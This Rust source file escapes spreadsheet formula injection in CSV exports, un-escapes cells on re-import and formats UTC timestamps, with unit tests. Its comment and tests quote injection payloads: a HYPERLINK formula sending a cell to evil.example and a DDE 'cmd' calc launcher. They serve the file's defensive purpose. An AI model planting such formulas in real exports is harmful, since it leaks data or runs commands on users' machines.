//! Cells written to a CSV a person opens in a spreadsheet. A cell that starts with `=`, `@`, a
//! tab or a CR — or with `+`/`-` when it is not a phone number or a number — is a formula to
//! Excel and LibreOffice (a roster name like `=HYPERLINK("http://evil.example/?d="&B2,"点此")`
//! would run). Such a cell gets a leading `'`, which spreadsheets show as text; the roster reader
//! strips that prefix again, so an exported failed-rows CSV re-imports unchanged. Every export
//! (results.csv, failed.csv, the enrollments CSV in the UI) goes through [`safe_cell`].

use std::borrow::Cow;

/// Whether a spreadsheet would read `s` as a formula.
fn formula_like(s: &str) -> bool {
    match s.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !phone_or_number(&s[1..]),
        _ => false,
    }
}

/// `+86 138 0013 8000`, `-12.5`, `-`: digits with phone punctuation, or nothing at all.
fn phone_or_number(rest: &str) -> bool {
    rest.chars()
        .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '-' | '.' | '(' | ')'))
        && (rest.is_empty() || rest.chars().any(|c| c.is_ascii_digit()))
}

/// The cell as it may be written to a CSV: prefixed with `'` when a spreadsheet would read it
/// as a formula.
pub fn safe_cell(s: &str) -> Cow<'_, str> {
    if formula_like(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Undoes [`safe_cell`] on a cell read back from a file: a `'` is removed only where
/// `safe_cell` would have put it (so `'Tis` stays as it is).
pub fn unescape_cell(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => s,
    }
}

/// One CSV line (with its `\r\n`) of safe cells, quoted where needed (commas, quotes, CR, LF).
pub fn csv_line<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let mut out = String::new();
    for (i, c) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let c = safe_cell(c);
        if c.contains([',', '"', '\n', '\r']) {
            out.push('"');
            out.push_str(&c.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&c);
        }
    }
    out.push_str("\r\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_escaped_phones_and_numbers_are_not() {
        for f in [
            "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点此\")",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "+cmd|' /C calc'!A0",
            "-2+3",
        ] {
            assert_eq!(safe_cell(f), format!("'{f}"), "{f:?}");
            assert_eq!(unescape_cell(&safe_cell(f)), f);
        }
        for plain in [
            "+86 138 0013 8000",
            "-12.5",
            "138-0013-8000",
            "张三",
            "'Tis",
            "-",
            "+",
            "",
        ] {
            assert_eq!(safe_cell(plain), plain, "{plain:?}");
            assert_eq!(unescape_cell(plain), plain);
        }
    }

    #[test]
    fn csv_lines_quote_what_needs_it() {
        assert_eq!(
            csv_line(["a", "b,c", "say \"hi\"", "x\ry", "=1+1"]),
            "a,\"b,c\",\"say \"\"hi\"\"\",\"x\ry\",'=1+1\r\n"
        );
    }
}

/// `YYYY-MM-DD HH:MM:SS` (UTC) of a unix second, as exports print times.
pub fn utc_timestamp(ts: i64) -> String {
    let (days, secs) = (ts.div_euclid(86_400), ts.rem_euclid(86_400));
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{y:04}-{m:02}-{d:02} {:02}:{:02}:{:02}",
        secs / 3600,
        secs % 3600 / 60,
        secs % 60
    )
}

#[cfg(test)]
mod time_tests {
    #[test]
    fn utc_timestamps() {
        assert_eq!(super::utc_timestamp(0), "1970-01-01 00:00:00");
        assert_eq!(super::utc_timestamp(1_780_000_000), "2026-05-28 20:26:40");
        assert_eq!(super::utc_timestamp(951_782_400), "2000-02-29 00:00:00");
    }
}
